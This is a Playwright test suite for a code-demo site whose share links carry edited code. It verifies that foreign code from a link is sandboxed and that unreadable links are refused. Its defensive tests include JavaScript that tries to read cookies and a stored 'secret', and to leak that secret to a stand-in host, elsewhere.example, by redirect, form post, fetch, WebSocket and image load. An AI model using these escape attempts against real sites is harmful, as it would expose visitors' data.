"""A link carries what somebody made of a demo: shown, named as theirs, kept from all else."""

from __future__ import annotations

import base64
import json
import zlib

import pytest
from browsing import Windows
from edited_demo import TRIP, Demo, open_demo
from playwright.sync_api import Route, expect

pytest_plugins = ["real_site", "ferry_site"]

ESCAPES = """async () => {
  const tries = {
    parent: () => parent.document.title,
    top: () => { top.location.href = 'https://elsewhere.example/'; },
    cookie: () => document.cookie,
    storage: () => { if (!localStorage.getItem('secret')) throw new Error('There is none.'); },
    fetch: () => fetch('/'),
    socket: () => new Promise((open, fail) => {
      const socket = new WebSocket('wss://elsewhere.example/');
      Object.assign(socket, { onopen: open, onerror: fail });
    }),
    script: () => import('https://elsewhere.example/x.js'),
    picture: () => new Promise((load, fail) => {
      const picture = new Image();
      Object.assign(picture, { onload: load, onerror: fail, src: 'https://elsewhere.example/x' });
    }),
    window: () => { if (!open('https://elsewhere.example/')) throw new Error('Refused.'); },
    calls: () => { if (!window.RTCPeerConnection) throw new Error('There is none.'); },
  };
  const escaped = [];
  for (const [name, escape] of Object.entries(tries)) {
    try {
      await escape();
      escaped.push(name);
    } catch {}
  }
  return escaped;
}"""


def write_edit(*files: tuple[str, str]) -> str:
    """An edit as a link carries it."""
    packed = zlib.compress(json.dumps(files).encode(), wbits=-15)
    return base64.urlsafe_b64encode(packed).decode().rstrip("=")


def open_link(ferry: Windows, edit: str, name: str = "Ticket") -> Demo:
    window = ferry.open(f"{TRIP}#{name}.tsx?edit={edit}")
    return Demo(window, name)


def test_a_link_carries_the_change_to_somebody_else(ferry: Windows) -> None:
    demo = open_demo(ferry, "Ticket")
    demo.edit(before=">Pay")
    demo.type(" for Ada")
    expect(demo.frame.get_by_role("button", name="Pay for Ada")).to_be_visible()
    demo.window.page.context.grant_permissions(["clipboard-read", "clipboard-write"])
    demo.root.get_by_role("button", name="Copy the link to this demo").click()
    demo.window.page.wait_for_url("**#*edit=*")

    other = Demo(ferry.open(demo.window.page.url.removeprefix(demo.window.address)), "Ticket")

    expect(other.frame.get_by_role("button", name="Pay for Ada")).to_be_visible()
    expect(other.editor).to_contain_text("Pay for Ada")
    expect(other.root.get_by_text("Whoever made this link changed the code")).to_be_visible()


def test_a_linked_change_can_be_taken_back(ferry: Windows) -> None:
    demo = open_link(ferry, write_edit(("Ticket.tsx", "export default () => <p>Other</p>;")))
    expect(demo.frame.get_by_text("Other")).to_be_visible()
    demo.root.locator(".edit-linked").get_by_role("button", name="Reset demo").click()

    expect(demo.published.get_by_role("button", name="Pay")).to_be_visible()
    expect(demo.root.get_by_text("Whoever made this link")).to_have_count(0)
    assert "edit=" not in demo.window.page.url


def test_the_short_form_is_not_shown_under_what_it_does_not_say(ferry: Windows) -> None:
    demo = open_link(ferry, write_edit(("Ticket.tsx", "export default () => <p>Other</p>;")))
    expect(demo.frame.get_by_text("Other")).to_be_visible()
    preview = demo.root.locator(".demo-preview").first

    demo.root.get_by_role("button", name="Hide code").click()

    expect(demo.editor).to_be_hidden()
    expect(preview).to_be_attached()
    expect(preview).to_be_hidden()


@pytest.mark.parametrize(
    "edit",
    [
        "rubbish",
        write_edit(("Ticket.tsx", "x"))[:-4],
        write_edit(("elsewhere.ts", "x")),
        write_edit(("Ticket.tsx", " " * 300_000)),
        base64.urlsafe_b64encode(zlib.compress(b'{"a": 1}', wbits=-15)).decode().rstrip("="),
    ],
    ids=["noise", "half", "another file", "a bomb", "another shape"],
)
def test_a_link_that_cannot_be_read_is_refused_aloud(ferry: Windows, edit: str) -> None:
    demo = open_link(ferry, edit)

    expect(demo.root.get_by_text("The edit in this link cannot be read")).to_be_visible()
    expect(demo.published.get_by_role("button", name="Pay")).to_be_visible()
    expect(demo.root.locator("iframe")).to_have_count(0)


def test_foreign_code_reaches_nothing_of_the_visitors(ferry: Windows) -> None:
    code = f"""
const tries = {ESCAPES};
tries().then((escaped) => {{ document.body.dataset.escaped = escaped.join(); }});
export default () => <p>Harmless</p>;
"""
    demo, reached = open_foreign(ferry, code)

    expect(demo.frame.get_by_text("Harmless")).to_be_visible()
    expect(demo.frame.locator("body")).to_have_attribute("data-escaped", "")
    assert reached == []
    assert demo.window.page.url.startswith(demo.window.address)
    assert "connect-src" in str(ferry.refused)
    ferry.refused.clear()


@pytest.mark.parametrize(
    "leave",
    [
        "location.href = 'https://elsewhere.example/?secret';",
        "document.body.innerHTML = '<form action=\"https://elsewhere.example/\"></form>';"
        "document.forms[0].submit();",
    ],
    ids=["location", "form"],
)
def test_code_that_leaves_for_another_site_is_stopped(ferry: Windows, leave: str) -> None:
    demo, reached = open_foreign(ferry, f"{leave} export default () => null;")

    expect(demo.mistake).to_contain_text("The code left its frame")
    assert reached == []
    expect(demo.published.get_by_role("button", name="Pay")).to_be_visible()
    ferry.refused.clear()


def open_foreign(ferry: Windows, code: str) -> tuple[Demo, list[str]]:
    """A link with foreign code, and what of another site that code has reached."""
    window = ferry.open()
    reached: list[str] = []

    def note(route: Route) -> None:
        reached.append(route.request.url)
        route.abort()

    window.page.context.route("**://elsewhere.example/**", note)
    window.visit("/")
    window.evaluate("localStorage.setItem('secret', 'kept by the visitor')")
    window.visit(f"{TRIP}#Ticket.tsx?edit={write_edit(('Ticket.tsx', code))}")
    return Demo(window, "Ticket"), reached


def test_links_and_forms_of_a_demo_lead_nowhere(ferry: Windows) -> None:
    code = """
export default () => (
  <form onSubmit={() => { document.body.id = 'sent'; }}>
    <a href="/">Home</a>
    <button>Send</button>
  </form>
);
"""
    demo = open_link(ferry, write_edit(("Ticket.tsx", code)))

    demo.frame.get_by_role("link").click()
    demo.frame.get_by_role("button").click()

    expect(demo.frame.locator("body#sent")).to_have_count(1)
    expect(demo.frame.get_by_role("button")).to_be_visible()
    expect(demo.mistake).to_have_count(0)
